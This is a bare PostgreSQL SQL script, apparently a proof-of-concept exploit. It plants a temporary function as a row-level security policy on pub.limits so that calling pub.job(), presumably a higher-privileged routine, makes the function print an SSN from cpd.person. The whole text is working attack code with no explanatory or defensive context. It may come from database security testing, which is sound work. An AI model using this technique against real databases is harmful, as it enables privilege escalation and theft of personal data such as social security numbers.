CREATE FUNCTION pg_temp.show() RETURNS boolean STABLE LANGUAGE plpgsql AS
$$ BEGIN RAISE NOTICE '%', (SELECT ssn FROM cpd.person WHERE id = 1); RETURN true; END $$;
ALTER TABLE pub.limits ENABLE ROW LEVEL SECURITY;
CREATE POLICY shows ON pub.limits USING (pg_temp.show());
SELECT pub.job();
